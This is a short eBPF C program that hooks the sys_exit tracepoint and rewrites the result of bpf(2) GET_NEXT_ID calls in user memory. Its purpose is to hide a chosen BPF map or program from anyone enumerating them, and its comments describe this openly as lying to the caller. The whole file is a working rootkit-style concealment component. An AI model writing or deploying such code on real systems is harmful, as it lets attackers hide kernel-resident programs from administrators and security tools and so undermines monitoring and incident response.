/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/*
 * Hides a map or a program from whoever lists them by bpf(2): when BPF_MAP_GET_NEXT_ID or
 * BPF_PROG_GET_NEXT_ID has answered with its id, the answer becomes the id behind it, which none has.
 */
#include <linux/bpf.h>

#include <bpf/bpf_core_read.h>
#include <bpf/bpf_helpers.h>

/* x86-64; both sides of the system call keep these. */
struct pt_regs {
	unsigned long si;
	unsigned long di;
	unsigned long orig_ax;
} __attribute__((preserve_access_index));

#define SYS_BPF 321

volatile __u32 cmd;	/* that is to lie */
volatile __u32 hidden;	/* the id; 0: off */

SEC("raw_tp/sys_exit")
int hide(struct bpf_raw_tracepoint_args *ctx)
{
	struct pt_regs *regs = (void *)ctx->args[0];
	__u32 next = 0, behind = hidden + 1;
	__u32 *answer = (__u32 *)BPF_CORE_READ(regs, si) + 1; /* attr.next_id */

	if (BPF_CORE_READ(regs, orig_ax) != SYS_BPF || BPF_CORE_READ(regs, di) != cmd)
		return 0;
	if (!bpf_probe_read_user(&next, sizeof(next), answer) && hidden && next == hidden)
		bpf_probe_write_user(answer, &behind, sizeof(behind));
	return 0;
}

char LICENSE[] SEC("license") = "GPL";
